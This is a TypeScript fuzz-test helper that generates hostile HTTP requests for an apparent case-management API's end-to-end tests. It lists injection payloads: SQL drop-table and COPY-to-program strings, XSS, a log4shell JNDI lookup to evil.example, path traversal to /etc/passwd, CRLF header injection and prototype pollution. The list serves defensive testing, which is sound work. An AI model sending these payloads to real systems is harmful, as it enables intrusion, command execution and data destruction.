import fc from 'fast-check';
import { Route, SAMPLE_REQUESTS, SampleContext } from './routes';
import {
  Json,
  JsonObject,
  JsonPath,
  RawJson,
  clone,
  containerAt,
  define,
  deleteAt,
  jsonType,
  nodesOf,
  setAt,
  toJson,
} from './json-values';

/*
 * Hostile requests for test/e2e/hostile-input.e2e-spec.ts: the values no client should send,
 * the fast-check arbitraries that decide how a valid sample request of a route is spoiled (its
 * body, path, headers, query, method), and the function that turns such a plan into the request
 * sent against one of the seed cases.
 *
 * The same seed makes the same requests only while the arbitraries stay as they are: a change
 * here (a value added, a weight, the order of a oneof) changes the test's inputs, and a failure
 * reported with a seed before it may no longer reproduce with that seed.
 */

// ---------------------------------------------------------------------------------------------
// Hostile values
// ---------------------------------------------------------------------------------------------

/**
 * Injection strings that are valid Unicode, have no NUL and no surrounding white space (the
 * domain trims text), and fit the shortest free-text field (borderSection, 120 characters):
 * each must be stored and read back exactly as sent.
 */
export const ROUND_TRIP_INJECTIONS: readonly (readonly [string, string])[] = [
  ['SQL: drop table', "'; DROP TABLE event_store.events;--"],
  ['SQL: tautology', "' OR 1=1--"],
  ['SQL: quoted tautology', `" OR ""="`],
  ['SQL: sleep', "'||pg_sleep(10)||'"],
  ['SQL: copy to program', "x'); COPY (SELECT '') TO PROGRAM 'id';--"],
  ['SQL: dollar quoting', '$$; DELETE FROM read_models.cases; $$'],
  ['SQL: escape string', "E'\\x27' \\'; --"],
  ['NoSQL operator', '{"$gt":""}'],
  ['NoSQL where', '{"$where":"sleep(1000)"}'],
  ['HTML script', '<script>alert(1)</script>'],
  ['HTML attribute', '"><img src=x onerror=alert(1)>'],
  ['log4shell', '${jndi:ldap://evil.example/a}'],
  ['template', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'],
  ['path traversal', '../../../../etc/passwd'],
  ['windows traversal', '..\\..\\windows\\win.ini'],
  ['CRLF', 'a\r\nSet-Cookie: pwned=1\r\n\r\n<html>'],
  ['control characters', 'a\u0001b\u0008c\u001bd\u007fe'],
  ['RTL override', '\u202Egnp.exe'],
  ['line separators', 'a\u2028b\u2029c'],
  ['byte order mark inside', 'a\uFEFFb'],
  ['emoji', '😀🇸🇮👨‍👩‍👧 ok'],
  ['combining marks', 'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇'],
  ['JSON breakout', '"},"caseId":"00000000-0000-0000-0000-000000000000","x":{"'],
  ['regex replacement patterns', "$1 $& $` $' $$"],
  ['percent escapes', '%00%27%22%0d%0a'],
  ['backslash escapes', '\\u0000 \\x00 \\n \\"'],
  ['prototype names', '__proto__ constructor prototype'],
];

/** What the fuzz puts into text: the above, plus what may rightly be refused (never a 5xx). */
const INJECTIONS: readonly string[] = [
  ...ROUND_TRIP_INJECTIONS.map(([, text]) => text),
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udfffb',
  '\ud83d',
  '  padded  ',
  ' ',
  '',
  '\t\r\n',
];

const LONG_100K = 'x'.repeat(100_000);
const deepArray = (depth: number) => new RawJson('['.repeat(depth) + ']'.repeat(depth));
const deepObject = (depth: number) => new RawJson('{"a":'.repeat(depth) + '1' + '}'.repeat(depth));

const HOSTILE_CONSTANTS: readonly Json[] = [
  // Other JSON types.
  null,
  true,
  false,
  0,
  -1,
  1.5,
  3,
  [],
  {},
  [null],
  [[]],
  [{}],
  // Numbers at and beyond JavaScript's range.
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  2 ** 31,
  2 ** 64,
  new RawJson('1e400'),
  new RawJson('-1e400'),
  new RawJson('123456789012345678901234567890'),
  new RawJson('-0'),
  new RawJson('3.0'),
  new RawJson('1E2'),
  new RawJson('1e-400'),
  // Strings that look like other types ("no coercion surprises").
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '0x10',
  '3',
  '1',
  'true',
  'false',
  'null',
  'undefined',
  '[]',
  '{}',
  // Sizes around and far beyond the limits.
  LONG_100K,
  'y'.repeat(121),
  'z'.repeat(201),
  'w'.repeat(2001),
  'v'.repeat(20_000),
  // Instants and dates that are almost right.
  '2024-02-30T10:00:00Z',
  '2024-03-13T22:15:00',
  '2024-03-13T22:15:60Z',
  '2024-03-13T24:00:00Z',
  '2024-03-13T22:15:00+25:00',
  '2024-03-13T22:15:00.1234567890Z',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '1899-12-31',
  '2024-13-01',
  new Date(Date.now() + 86_400_000).toISOString(),
  // Prototype pollution.
  new RawJson('{"__proto__":{"polluted":"yes"}}'),
  new RawJson('{"constructor":{"prototype":{"polluted":"yes"}}}'),
  new RawJson('{"prototype":{"polluted":"yes"}}'),
  new RawJson('[{"__proto__":{"polluted":"yes"}}]'),
  // Deep nesting, within the body limit and beyond any recursion a DTO expects.
  deepArray(50),
  deepArray(5_000),
  deepArray(20_000),
  deepObject(50),
  deepObject(5_000),
  // Large arrays.
  Array.from({ length: 10_000 }, (_, i) => i),
  Array.from({ length: 101 }, () => '6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3e'),
  Array.from({ length: 1_001 }, () => ({ nationality: 'SY', minor: false })),
  Array.from({ length: 3_000 }, () => 'flight-risk'),
];

/** Printable ASCII only: fetch refuses to send control characters in headers. */
const printable = fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c));
const asciiGarbage = fc.string({ unit: printable, maxLength: 60 });

const injection = fc.constantFrom(...INJECTIONS);

const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_CONSTANTS) },
  { weight: 3, arbitrary: injection },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json> },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.uuid({ version: [1, 4, 7] }) },
);

/** A key no DTO has: prefixed, so that a random string never names a real property. */
const unknownKey = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'xIsAdmin',
    'caseId',
    'eventId',
    'actorId',
    'role',
    'version',
    'position',
    'recordedAt',
    '$where',
    // Members of Object.prototype: a property check that looks keys up on a plain object
    // finds these even when the DTO has no such property.
    'toString',
    'valueOf',
    'hasOwnProperty',
    'isPrototypeOf',
    'propertyIsEnumerable',
    'toLocaleString',
    '__defineGetter__',
    '__lookupSetter__',
    'Summary',
    'occurredat',
    '',
    ' ',
    '\ud800',
    '\u202eevil',
  ),
  fc.string({ unit: 'binary', maxLength: 12 }).map((s) => `x-${s}`),
);

// ---------------------------------------------------------------------------------------------
// Request plans: what the generator decides, turned into requests against the seed cases
// ---------------------------------------------------------------------------------------------

type BodyMutation =
  | { kind: 'drop'; pick: number }
  | { kind: 'unknown'; pick: number; key: string; value: Json }
  | { kind: 'replace'; pick: number; value: Json }
  | { kind: 'inject'; pick: number; text: string; how: 'replace' | 'prefix' | 'suffix' }
  | { kind: 'root'; value: Json }
  | { kind: 'wrap' }
  | { kind: 'grow'; pick: number; size: number };

const bodyMutation: fc.Arbitrary<BodyMutation> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('drop' as const), pick: fc.nat() }) },
  {
    weight: 3,
    arbitrary: fc.record({
      kind: fc.constant('unknown' as const),
      pick: fc.nat(),
      key: unknownKey,
      value: hostileValue,
    }),
  },
  {
    weight: 6,
    arbitrary: fc.record({
      kind: fc.constant('replace' as const),
      pick: fc.nat(),
      value: hostileValue,
    }),
  },
  {
    weight: 4,
    arbitrary: fc.record({
      kind: fc.constant('inject' as const),
      pick: fc.nat(),
      text: injection,
      how: fc.constantFrom('replace' as const, 'prefix' as const, 'suffix' as const),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({ kind: fc.constant('root' as const), value: hostileValue }),
  },
  { weight: 1, arbitrary: fc.constant({ kind: 'wrap' as const }) },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant('grow' as const),
      pick: fc.nat(),
      size: fc.constantFrom(2, 101, 121, 201, 1_001, 2_001, 5_000),
    }),
  },
);

type PathMutation =
  | { kind: 'upper' | 'other-case' | 'swap-person'; param: number; pick: number }
  | { kind: 'literal'; param: number; literal: string };

/** Path segments that are not the UUID of anything in the case, most not a UUID at all. */
const NON_UUIDS = [
  'not-a-uuid',
  '1',
  '0',
  '-1',
  'null',
  'undefined',
  'true',
  '%7B%7D',
  '%5B%5D',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '6a1f5c8e8a8e4a4e9c651a3d1b1c2d3e',
  '%7B6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3e%7D',
  'urn:uuid:6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3e',
  '6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3',
  '6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3e0',
  '6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3g',
  '6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3e%20',
  '6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3e%0A',
  '6a1f5c8e-8a8e-4a4e-9c65-1a3d1b1c2d3e%00',
  '%',
  '%ZZ',
  '%E0%A4%A',
  '%C0%AE%C0%AE',
  '%ED%A0%80',
  '%FF%FE',
  '%00',
  '%2e%2e',
  '..%2F..%2Fhealth%2Flive',
  '%2F',
  '',
  'a'.repeat(4_000),
];

/**
 * A path segment that reaches the route as a parameter that is not a UUID: not empty and not
 * a dot segment (the URL would lose it), and decoded not a UUID in any letter case.
 */
function notAUuid(segment: string): boolean {
  let decoded: string;
  try {
    decoded = decodeURIComponent(segment);
  } catch {
    // Not even decodable: refused as a malformed request, also a 400.
    return true;
  }
  return (
    !['', '.', '..'].includes(decoded) &&
    !/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(decoded)
  );
}

/** A path segment: UTF-8 percent-encoded, lone surrogates as U+FFFD (URLs cannot carry them). */
export const encodeSegment = (text: string) =>
  Array.from(Buffer.from(text, 'utf8'))
    .map((byte) =>
      /[A-Za-z0-9_~-]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

const pathMutation: fc.Arbitrary<PathMutation> = fc.oneof(
  fc.record({
    kind: fc.constantFrom('upper' as const, 'other-case' as const, 'swap-person' as const),
    param: fc.nat(),
    pick: fc.nat(),
  }),
  fc.record({
    kind: fc.constant('literal' as const),
    param: fc.nat(),
    literal: fc.oneof(
      fc.uuid({ version: [1, 4, 7] }),
      fc.constantFrom(...NON_UUIDS),
      injection.map(encodeSegment),
    ),
  }),
);

/** Files the documentation UI serves beside its routes (and a few that it does not). */
const STATIC_SEGMENTS = [
  '',
  'swagger-ui.css',
  'swagger-ui-bundle.js',
  'swagger-ui-standalone-preset.js',
  'favicon-32x32.png',
  'index.css',
  'no-such-file.js',
  '..%2Fpackage.json',
];

const QUERIES = fc.oneof(
  fc.constantFrom(
    'caseId=00000000-0000-0000-0000-000000000000',
    '__proto__[polluted]=yes',
    'constructor[prototype][polluted]=yes',
    'a[b][c][d][e][f]=1',
    'filter=%7B%22%24gt%22%3A%22%22%7D',
    'limit=-1&offset=1e400',
    'a=1&a=2&a=3',
    '%',
    '%E0%A4%A=1',
    '=',
    '&&&',
    `q=${'q'.repeat(4_000)}`,
    // The query routes' own parameters, with values at and past their edges.
    'minPosition=999999999999999999',
    'minPosition=1e3',
    'minPosition=0x10',
    `cursor=${Buffer.from('{"__proto__":{"polluted":true}}').toString('base64url')}`,
    `cursor=${Buffer.from('null').toString('base64url')}`,
    `cursor=${Buffer.from('{"sort":"-openedAt","value":"x","caseId":"\'"}').toString('base64url')}`,
    'limit=1&limit=2',
    'limit=0',
    'sort=__proto__',
    'page=999999',
    'from=2024-02-30&to=2024-03-01',
    'from=1900-01-01&to=1900-01-02',
    'openedFrom=2024-01-01&openedTo=1900-01-01',
    'expiringWithin=99999d',
    'directorate[]=koper',
  ),
  injection.map((text) => `q=${encodeSegment(text)}`),
);

type HeaderMutation = { name: string; value: string };

const AUTH_VARIANTS = [
  'none',
  'garbage',
  'not-a-jwt',
  'basic',
  'tampered',
  'auditor',
  'liaison',
  'other-directorate',
  'expired',
] as const;
/** The credentials a request may carry instead of the one its route needs. */
export type AuthVariant = (typeof AUTH_VARIANTS)[number];

const CONTENT_TYPES = [
  'none',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/merge-patch+json',
  'application/vnd.api+json',
  'application/json, text/plain',
  'application/*',
  'application/json; boundary=%%%',
];

const headerMutation: fc.Arbitrary<HeaderMutation> = fc.oneof(
  fc.record({
    name: fc.constant('if-match'),
    value: fc.oneof(
      fc.constantFrom(
        '*',
        '"abc"',
        'W/"1"',
        '"1", "2"',
        '"-1"',
        '"0"',
        '"1"',
        '"2"',
        '"999999999"',
        '"9999999999"',
        '""',
        '"',
        '1.5',
        '"1e3"',
        '" 1"',
      ),
      asciiGarbage,
    ),
  }),
  fc.record({
    name: fc.constant('idempotency-key'),
    value: fc.oneof(
      fc.constantFrom('short', 'k'.repeat(129), 'key with spaces', '../../etc/passwd', "k';--x"),
      // Shared keys, so that retries and reuse on other routes and bodies happen.
      fc.nat({ max: 30 }).map((n) => `fuzz-shared-key-${n}`),
      asciiGarbage,
    ),
  }),
  fc.record({ name: fc.constant('content-type'), value: fc.constantFrom(...CONTENT_TYPES) }),
  fc.record({ name: fc.constant('authorization'), value: fc.constantFrom(...AUTH_VARIANTS) }),
  fc.record({
    name: fc.constantFrom('accept', 'x-forwarded-for', 'x-http-method-override', 'origin'),
    value: asciiGarbage,
  }),
  // Conditional and partial requests, which static files and caches answer on their own.
  fc.record({
    name: fc.constantFrom('if-none-match', 'if-unmodified-since', 'if-modified-since', 'range'),
    value: fc.oneof(
      fc.constantFrom(
        '"x"',
        '*',
        'Mon, 01 Jan 1990 00:00:00 GMT',
        'Fri, 31 Dec 9999 23:59:59 GMT',
        'bytes=999999999-',
        'bytes=5-1',
        'bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7,8-8,9-9',
        'items=0-1',
      ),
      asciiGarbage,
    ),
  }),
);

/** Bodies that are not a JSON document, or not one a DTO can be read from. */
const RAW_BODIES: readonly (readonly [string, string | Uint8Array])[] = [
  ['empty', ''],
  ['null', 'null'],
  ['true', 'true'],
  ['number', '42'],
  ['string', '"string"'],
  ['empty array', '[]'],
  ['array', '[1,2,3]'],
  ['truncated', '{"occurredAt":'],
  ['open brace', '{'],
  ['single quotes', "{'summary':'x'}"],
  ['trailing comma', '{"summary":"x",}'],
  ['comment', '{/* x */"summary":"x"}'],
  ['NaN literal', '{"months":NaN}'],
  ['XML', '<?xml version="1.0"?><case><summary>x</summary></case>'],
  ['form', 'summary=x&occurredAt=2024-01-01T00:00:00Z'],
  ['BOM', '\uFEFF{"summary":"x"}'],
  ['duplicate keys', '{"summary":"a","summary":"b"}'],
  ['invalid UTF-8', new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d])],
  ['UTF-16', new Uint8Array(Buffer.from('{"summary":"x"}', 'utf16le'))],
  ['binary', new Uint8Array([0x00, 0xff, 0xfe, 0x00, 0x01])],
  ['over the body limit', `{"summary":"${'x'.repeat(70_000)}"}`],
  ['deep nesting over the body limit', '['.repeat(40_000) + ']'.repeat(40_000)],
];

/** The arbitrary's value about once in `n` requests, otherwise null. */
const oneIn = <T>(n: number, arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | null> =>
  fc.oneof({ weight: n - 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary });

/** What the generator decides for one request; `buildRequest` makes the request from it. */
export interface Plan {
  route: Route;
  ctx: number;
  correction: number;
  body: BodyMutation[];
  path: PathMutation | null;
  headers: HeaderMutation[];
  raw: number | null;
  method: string | null;
  query: string | null;
}

/**
 * The plan of one request: a route and a seed case (of `seedCases`, by index), and what to do
 * to the route's valid sample: most bodies spoiled in one to three ways, some paths, headers,
 * raw bodies, methods and queries.
 */
export const requestPlan = (routes: readonly Route[], seedCases: number): fc.Arbitrary<Plan> =>
  fc.record({
    route: fc.constantFrom(...routes),
    ctx: fc.nat({ max: seedCases - 1 }),
    correction: fc.nat(),
    body: fc.oneof(
      { weight: 1, arbitrary: fc.constant<BodyMutation[]>([]) },
      { weight: 3, arbitrary: fc.array(bodyMutation, { minLength: 1, maxLength: 3 }) },
    ),
    path: oneIn(6, pathMutation),
    headers: fc.oneof(
      { weight: 4, arbitrary: fc.constant<HeaderMutation[]>([]) },
      { weight: 1, arbitrary: fc.array(headerMutation, { minLength: 1, maxLength: 3 }) },
    ),
    raw: oneIn(12, fc.nat({ max: RAW_BODIES.length - 1 })),
    method: oneIn(25, fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD')),
    query: oneIn(12, QUERIES),
  });

/** One request as sent, with a label that says how it was made. */
export interface FuzzRequest {
  readonly routeKey: string;
  readonly label: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  /** Kept as a value and serialized when sent: the 100k strings are shared, not copied. */
  readonly json?: Json;
  readonly raw?: string | Uint8Array;
  /** The plan was one body mutation that any strict DTO must refuse (never a 2xx). */
  readonly mustRefuse: boolean;
  /** The only change to a valid request is an id in the path that is not a UUID: 400. */
  readonly badId: boolean;
}

/** A case the fuzz starts from, with the ids of its stored events (which corrections name). */
export interface SeedCase extends SampleContext {
  readonly eventIds: string[];
}

const show = (value: Json) => {
  const text = toJson(value);
  return text.length > 60 ? `${text.slice(0, 40)}…(${text.length} chars)` : text;
};
const showPath = (path: JsonPath) => (path.length === 0 ? 'body' : `body.${path.join('.')}`);
/** `changes` of a correction is free-form by design: its values are checked by the domain. */
const freeForm = (path: JsonPath) => path[0] === 'changes';

/** Applies one mutation to a copy of the body; says what it did and whether it must be refused. */
function mutate(
  body: Json,
  mutation: BodyMutation,
): { body: Json; label: string; strict: boolean } {
  const next = clone(body);
  const nodes = nodesOf(next);
  const pickFrom = <T>(items: T[], pick: number): T | undefined =>
    items.length === 0 ? undefined : items[pick % items.length];
  switch (mutation.kind) {
    case 'drop': {
      const target = pickFrom(nodes, mutation.pick);
      if (!target) return { body: next, label: 'drop (nothing to drop)', strict: false };
      deleteAt(next, target.path);
      return { body: next, label: `drop ${showPath(target.path)}`, strict: false };
    }
    case 'unknown': {
      const objects: JsonPath[] = [
        ...(jsonType(next) === 'object' ? [[]] : []),
        ...nodes.filter((n) => jsonType(n.value) === 'object').map((n) => n.path),
      ];
      const path = pickFrom(objects, mutation.pick);
      if (!path) return { body: next, label: 'unknown key (no object)', strict: false };
      const target = containerAt(next, path) as JsonObject;
      const existed = Object.hasOwn(target, mutation.key);
      define(target, mutation.key, mutation.value);
      return {
        body: next,
        label: `add ${showPath([...path, JSON.stringify(mutation.key)])} := ${show(mutation.value)}`,
        strict: !existed && !freeForm(path),
      };
    }
    case 'replace': {
      const target = pickFrom(nodes, mutation.pick);
      if (!target) return { body: next, label: 'replace (nothing to replace)', strict: false };
      setAt(next, target.path, mutation.value);
      const [before, after] = [jsonType(target.value), jsonType(mutation.value)];
      return {
        body: next,
        label: `replace ${showPath(target.path)} (${before}) := ${show(mutation.value)}`,
        // A value of another JSON type in place of a non-null one: no coercion may save it.
        strict:
          before !== 'null' &&
          after !== 'null' &&
          after !== 'raw' &&
          before !== after &&
          !freeForm(target.path),
      };
    }
    case 'inject': {
      const texts = nodes.filter((n) => typeof n.value === 'string');
      const target = pickFrom(texts, mutation.pick);
      if (!target) return { body: next, label: 'inject (no text field)', strict: false };
      const original = target.value as string;
      const text =
        mutation.how === 'replace'
          ? mutation.text
          : mutation.how === 'prefix'
            ? mutation.text + original
            : original + mutation.text;
      setAt(next, target.path, text);
      return {
        body: next,
        label: `inject ${showPath(target.path)} := ${show(text)}`,
        strict: false,
      };
    }
    case 'wrap':
      return { body: [next], label: 'wrap body in an array', strict: true };
    case 'root': {
      return {
        body: mutation.value,
        label: `body := ${show(mutation.value)}`,
        strict: jsonType(mutation.value) !== 'object' && jsonType(mutation.value) !== 'raw',
      };
    }
    case 'grow': {
      const growable = nodes.filter((n) => Array.isArray(n.value) || typeof n.value === 'string');
      const target = pickFrom(growable, mutation.pick);
      if (!target) return { body: next, label: 'grow (nothing to grow)', strict: false };
      const value = target.value as string | Json[];
      const grown =
        typeof value === 'string'
          ? (value || 'x').repeat(Math.ceil(mutation.size / Math.max(value.length, 1)))
          : Array.from({ length: mutation.size }, (_, i) => clone(value[i % value.length] ?? null));
      setAt(next, target.path, grown);
      return {
        body: next,
        label: `grow ${showPath(target.path)} to ${grown.length}`,
        strict: false,
      };
    }
  }
}

// ---------------------------------------------------------------------------------------------
// From a plan to a request
// ---------------------------------------------------------------------------------------------

/** The tokens of the roles a request may carry; null where it carries none. */
export type FuzzTokens = Record<AuthVariant | 'supervisor', string | null>;

/**
 * The request a plan makes of its route's valid sample (SAMPLE_REQUESTS) against the seed case
 * it names; a route in `inputless` takes no input and its sample is its path. Carries a
 * supervisor's token (an auditor's on audit routes) unless the plan says otherwise, and says
 * when the answer must be a refusal: `mustRefuse` and `badId`.
 */
export function buildRequest(
  plan: Plan,
  seeds: readonly SeedCase[],
  tokens: FuzzTokens,
  inputless: ReadonlySet<string>,
): FuzzRequest {
  const ctx = seeds[plan.ctx];
  const { route } = plan;
  const labels: string[] = [];
  const sample = inputless.has(route.key)
    ? { path: route.path, body: undefined }
    : SAMPLE_REQUESTS[route.key](ctx);
  const method = plan.method ?? route.method;
  if (method !== route.method) labels.push(`method ${method}`);
  // A raw body replaces the JSON one, and fetch sends no body at all with GET or HEAD.
  const sendsJson = plan.raw === null && method !== 'GET' && method !== 'HEAD';
  let body: Json | undefined = sendsJson ? (sample.body as Json | undefined) : undefined;

  // A correction of a random event id only ever reaches "no such event": aim most of them
  // at real events, so the corrected values reach the domain's checks.
  if (
    body !== undefined &&
    route.key === 'POST /cases/:caseId/corrections' &&
    plan.correction % 4 !== 0
  ) {
    const changes: JsonObject[] = [
      { place: 'Metlika' },
      { summary: 'Corrected.' },
      { borderSection: 'Metlika' },
      { nationality: 'HR' },
      { nationality: null },
      { minor: true },
      { slovenianCitizen: true },
      { place: 'Metlika', nationality: 'SI' },
    ];
    body = {
      correctedEventId: ctx.eventIds[plan.correction % ctx.eventIds.length],
      reason: 'Fuzz.',
      changes: changes[Math.floor(plan.correction / 4) % changes.length],
    };
    labels.push('correction of a seed event');
  }

  let mustRefuse = false;
  if (body !== undefined) {
    for (const mutation of plan.body) {
      const result = mutate(body, mutation);
      body = result.body;
      labels.push(result.label);
      mustRefuse = plan.body.length === 1 && result.strict;
    }
  }

  // Path: replace one of the route's parameters (by position in the pattern).
  let badId = false;
  const segments = sample.path.split('/');
  const params = route.path
    .split('/')
    .map((segment, i) => (segment.startsWith(':') ? i : -1))
    .filter((i) => i >= 0);
  if (plan.path && params.length === 0) {
    // No parameter to replace: append a segment, which for the documentation reaches the
    // static files served beside the routes.
    const m = plan.path;
    const appended =
      m.kind === 'literal' ? m.literal : STATIC_SEGMENTS[m.pick % STATIC_SEGMENTS.length];
    segments.push(appended);
    labels.push(`append path segment ${compress(appended).slice(0, 60)}`);
  } else if (plan.path) {
    const m = plan.path;
    badId =
      m.kind === 'literal' &&
      plan.body.length === 0 &&
      plan.headers.length === 0 &&
      plan.raw === null &&
      plan.method === null &&
      plan.query === null &&
      notAUuid(m.literal);
    const index = params[m.param % params.length];
    const param = route.path.split('/')[index];
    const current = segments[index];
    const other = seeds[(plan.ctx + 1 + (m.kind === 'literal' ? 0 : m.pick)) % seeds.length];
    const replacement =
      m.kind === 'literal'
        ? m.literal
        : m.kind === 'upper'
          ? current.toUpperCase()
          : m.kind === 'other-case'
            ? param === ':caseId'
              ? other.caseId
              : other.suspectId
            : current === ctx.suspectId
              ? ctx.migrantId
              : ctx.suspectId;
    segments[index] = replacement;
    labels.push(
      `path ${param} := ${m.kind === 'literal' ? compress(replacement).slice(0, 60) : m.kind}`,
    );
  }
  let path = segments.join('/');
  if (plan.query !== null) {
    // Added to a query route's own parameters, or as the only ones.
    path += `${path.includes('?') ? '&' : '?'}${plan.query}`;
    labels.push(`query ${plan.query.slice(0, 60)}`);
  }

  const headers: Record<string, string> = {};
  // Audit routes are the auditor's: a supervisor's token would be refused before validation.
  let auth: AuthVariant | 'supervisor' = route.key.includes(' /audit/') ? 'auditor' : 'supervisor';
  let contentType = 'application/json';
  for (const h of plan.headers) {
    if (h.name === 'authorization') auth = h.value as AuthVariant;
    else if (h.name === 'content-type') contentType = h.value;
    else headers[h.name] = h.value;
    labels.push(`header ${h.name}: ${h.value.slice(0, 60)}`);
  }
  const token = tokens[auth];
  if (token !== null) headers.authorization = `${auth === 'basic' ? 'Basic' : 'Bearer'} ${token}`;

  let raw: string | Uint8Array | undefined;
  if (plan.raw !== null && method !== 'GET' && method !== 'HEAD') {
    const [label, bytes] = RAW_BODIES[plan.raw];
    raw = bytes;
    labels.push(`raw body: ${label}`);
  }
  if (body !== undefined || raw !== undefined) {
    if (contentType === 'none') {
      // A Uint8Array body makes fetch send no Content-Type at all.
      raw = typeof raw === 'string' || raw === undefined ? Buffer.from(raw ?? toJson(body!)) : raw;
      body = undefined;
    } else {
      headers['content-type'] = contentType;
    }
  }
  return {
    routeKey: route.key,
    label: labels.join('; ') || 'valid sample',
    method,
    path,
    headers,
    json: body,
    raw,
    mustRefuse,
    badId,
  };
}

/** Long runs of a short unit, written as (unit)×count: deep nesting in a readable line. */
export function compress(text: string): string {
  return text.replace(
    /([^]{1,5}?)\1{7,}/g,
    (run: string, unit: string) => `(${unit})×${run.length / unit.length}`,
  );
}
